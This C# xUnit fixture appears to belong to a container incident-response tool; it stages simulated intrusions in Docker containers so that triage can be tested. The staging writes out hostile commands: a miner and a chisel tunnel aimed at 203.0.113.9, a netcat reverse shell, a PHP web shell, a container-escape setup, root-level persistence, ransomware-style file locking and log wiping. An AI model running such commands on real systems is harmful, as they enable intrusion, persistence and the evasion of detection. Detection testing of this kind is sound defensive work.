using System.Globalization;
using ContainerIR.Analyzers;
using ContainerIR.Collectors;
using ContainerIR.Tests.Some;
using Xunit;

namespace ContainerIR.Tests.Analyzers;

/// <summary>
/// Eight intrusions and eight ordinary containers, all up at once: what is done later than the entry point must be done ten seconds after the start, and
/// that is waited for once.
/// </summary>
public sealed class StagedContainers : IAsyncLifetime
{
    private const string Image = "cir-test:staged";
    private const string Committed = "cir-test:staged-committed";
    private readonly List<TestContainer> running = [];

    /// <summary>What triage said of each, intrusions first.</summary>
    internal Dictionary<string, TriageReport> Reports { get; } = [];

    internal static string[] Intrusions { get; } = ["miner", "reverse shell", "fileless", "drift", "escape preparation", "web shell", "persistence", "log tampering"];

    /// <summary>Captured with the bytes of changed files and the host's context.</summary>
    internal static string[] WithContent { get; } = ["web shell", "web server"];

    internal static string[] Ordinary { get; } = ["web server", "database", "shell", "package installation", "busybox tools", "scheduled tasks", "log rotation", "inetd service"];

    public async ValueTask InitializeAsync()
    {
        MakeImage();
        Dictionary<string, TestContainer> up = [];
        TestContainer Start(string name, string[] options, params string[] command)
        {
            TestContainer container = new(options, Image, command);
            running.Add(container);
            return up[name] = container;
        }

        foreach (string name in Intrusions.Where(name => name is not ("escape preparation" or "miner" or "drift")))
        {
            Start(name, [], "sleep", "1000");
        }

        // A twentieth of a processor is all it may have, and it takes all of that.
        Start("miner", ["--cpus", "0.05"], "sleep", "1000");
        RealEngine.Docker("commit", up["reverse shell"].Id, Committed);
        running.Add(up["drift"] = new TestContainer([], Committed, ["sleep", "1000"]));

        // The words stand in the command line and are never reached: what follows the colon is an argument of nothing.
        Start("escape preparation", ["-v", "/:/host:ro", "-v", "/etc:/e", "-v", $"{RealEngine.SocketPath}:/var/run/docker.sock", "--cap-add", "SYS_ADMIN", "--uts", "host"], "sh", "-c", "sleep 1000; : chroot /host");
        Start("web server", [], "httpd", "-f", "-p", "80", "-h", "/var/www");
        Start("database", ["-e", "POSTGRES_PASSWORD=x", "-v", "/var/lib/data"], "sh", "-c", "mkdir -p /var/lib/data/base; while :; do date >> /var/lib/data/base/1; date >> /var/log/db.log; sleep 1; done");
        Start("shell", ["-t", "-i"], "sh");
        Start("package installation", [], "sleep", "1000");
        Start("busybox tools", ["-t"], "sh", "-c", "mkfifo /tmp/lines; tail -f /var/log/app.log & grep stratum+tcp://pool /tmp/lines & vi /etc/passwd & top");
        Start("scheduled tasks", [], "sh", "-c", "mkdir -p /var/spool/cron/crontabs; echo '* * * * * date' > /var/spool/cron/crontabs/root; echo 'app:x:9:9::/:/bin/sh' >> /etc/passwd; exec crond -f");
        Start("log rotation", [], "sleep", "1000");
        Start("inetd service", [], "sh", "-c", "/usr/sbin/tcpsvd broker 7000 & sleep 1000 | (until nc 127.0.0.1 7000; do sleep 0.1; done) & exec sleep 1000");
        DateTimeOffset last = up.Values.Max(container => DateTimeOffset.Parse(container.Inspect("{{.State.StartedAt}}"), CultureInfo.InvariantCulture));
        await RealEngine.Until(() => DateTimeOffset.UtcNow > last.AddSeconds(12), "the start of the containers to be over");
        Stage(up);
        DateTimeOffset staged = DateTimeOffset.UtcNow;
        await RealEngine.Until(() => up["reverse shell"].Exec("netstat -tn").Contains("ESTABLISHED", StringComparison.Ordinal), "the reverse shell to be connected");
        await RealEngine.Until(() => up["inetd service"].Exec("netstat -tn").Contains("ESTABLISHED", StringComparison.Ordinal), "the service to be connected");
        await RealEngine.Until(() => up["busybox tools"].Exec("ps").Contains("grep stratum+tcp", StringComparison.Ordinal), "the search to run");
        await RealEngine.Until(() => !up["fileless"].Exec("ls /opt").Contains("x2", StringComparison.Ordinal), "the program to delete itself");
        foreach (string name in Intrusions.Concat(Ordinary).Where(name => name != "miner"))
        {
            Reports[name] = await SomeTriage.OfAsync(up[name].Id, WithContent.Contains(name) ? Profile.Standard : Profile.Triage);
        }

        // What takes a processor must have had one for ten seconds: by now it has nearly.
        await RealEngine.Until(() => DateTimeOffset.UtcNow > staged.AddSeconds(14), "the miner to have worked");
        Reports["miner"] = await SomeTriage.OfAsync(up["miner"].Id);
    }

    public ValueTask DisposeAsync()
    {
        running.ForEach(container => container.Dispose());
        RealEngine.Docker("rmi", "-f", Committed, Image);
        return ValueTask.CompletedTask;
    }

    private static void Stage(Dictionary<string, TestContainer> up)
    {
        void Bring(string name, string path, params string[] arguments)
        {
            RealEngine.Docker("cp", IntruderProgram.Executable, $"{up[name].Id}:{path}");
            if (arguments.Length > 0)
            {
                RealEngine.Docker(["exec", "-d", up[name].Id, path, .. arguments]);
            }
        }

        up["miner"].Exec("mkdir -p /tmp/.x");
        Bring("miner", "/tmp/.x/kdevtmpfsi", "-o", "stratum+tcp://203.0.113.9:3333", "-u", "wallet", "--donate-level=1");
        RealEngine.Docker("exec", "-d", up["reverse shell"].Id, "sh", "-c", "sleep 1000 | nc -l -p 4444");
        Bring("reverse shell", "/opt/x", "shell", "4444");
        Bring("fileless", "/opt/x1", "memory");
        Bring("fileless", "/opt/x2", "deleted");
        Bring("fileless", "/opt/x3", "called", "[kworker/0:1]");
        RealEngine.Docker("exec", "-d", "-e", "HISTFILE=/dev/null", up["drift"].Id, "sh", "-c", "cp /bin/busybox /opt/nc; /opt/nc -l -p 5555; exit");
        Bring("fileless", "/opt/x4", "rwx");
        Bring("fileless", "/opt/x5", "traced");
        Bring("drift", "/usr/bin/nmap");
        Bring("drift", "/opt/chisel", "client", "203.0.113.9:443");
        Bring("drift", "/opt/sniff", "packet");
        RealEngine.Docker("exec", "-d", "-i", "-t", up["drift"].Id, "sh");
        Bring("escape preparation", "/opt/client", "unix", "/var/run/docker.sock");
        up["web shell"].Exec("echo '<?php system($_GET[0]);' > /var/www/up.php");
        Bring("web shell", "/usr/sbin/nginx", "terminal");
        Bring("web shell", "/opt/packed");
        up["web shell"].Exec("printf 'UPX!' | dd of=/opt/packed bs=1 seek=700 conv=notrunc");
        Bring("web server", "/usr/local/bin/plain");
        up["web server"].Exec("echo '<?php echo htmlspecialchars($_GET[\"q\"]); mysqli_exec($statement);' > /var/www/search.php");
        up["database"].Exec("mkdir -p /srv/backup; for i in $(seq 30); do gzip /srv/papers/$i.txt; done; echo done > /srv/backup/last");
        up["persistence"].Exec("""
            mkdir -p /root/.ssh /etc/cron.d /etc/pam.d; echo k > /root/.ssh/authorized_keys; echo '* * * * * root x' > /etc/cron.d/x; echo x >> /root/.profile
            echo 'r::0:0::/:/bin/sh' >> /etc/passwd; echo /lib/x.so > /etc/ld.so.preload; echo auth > /etc/pam.d/sshd; cp /bin/busybox /opt/s; chmod 4755 /opt/s
            rm /usr/bin/tool; cp /bin/busybox /usr/bin/tool; echo x >> /usr/local/bin/start.sh; ln -s /dev/null /root/.ash_history; echo m > /opt/x.ko
            """);
        up["log tampering"].Exec("for i in $(seq 30); do mv /srv/papers/$i.txt /srv/papers/$i.txt.locked; done; echo pay > /srv/papers/HOW_TO_DECRYPT.txt; rm /var/log/app.log; : > /var/log/access.log; rm /usr/bin/falco; cp /bin/busybox /opt/late; touch -d 2001-01-01 /opt/late");
        up["package installation"].Exec("""
            mkdir -p /lib/apk/db; echo P:tool >> /lib/apk/db/installed; cp /bin/busybox /usr/bin/busybox; cp /bin/busybox /usr/bin/su; chmod 4755 /usr/bin/su; cp /bin/busybox /usr/bin/tool
            echo 'x:x:9:9::/:' >> /etc/passwd; mkdir -p /root/.cache/x /etc/profile.d; cp /bin/busybox /root/.cache/x/build; echo x > /etc/profile.d/x.sh
            """);
        RealEngine.Docker("exec", "-d", up["package installation"].Id, "/usr/bin/busybox", "sleep", "1000");
        up["log rotation"].Exec("cp /var/log/app.log /var/log/app.log.1; : > /var/log/app.log; mv /var/log/access.log /var/log/access.log.1");
    }

    private static void MakeImage()
    {
        using TestContainer container = RealEngine.Start([], "sleep", "1000");
        container.Exec("""
            mkdir -p /var/www /var/lib /usr/bin /usr/sbin /usr/local/bin /opt; echo hi > /var/www/index.html; echo line > /var/log/app.log; echo line > /var/log/access.log
            echo '#!/bin/sh' > /usr/bin/falco; chmod 755 /usr/bin/falco; cp /bin/busybox /usr/bin/tool; mkdir -p /srv/papers; for i in $(seq 30); do echo "text $i" > /srv/papers/$i.txt; done; echo '#!/bin/sh' > /usr/local/bin/start.sh; chmod 755 /usr/local/bin/start.sh
            """);
        RealEngine.Docker("cp", IntruderProgram.Executable, container.Id + ":/usr/sbin/tcpsvd");
        RealEngine.Run("sh", "-c", $"docker export {container.Id} | docker import --change 'HEALTHCHECK --interval=1h CMD [\"/usr/local/bin/start.sh\"]' - {Image}");
    }
}
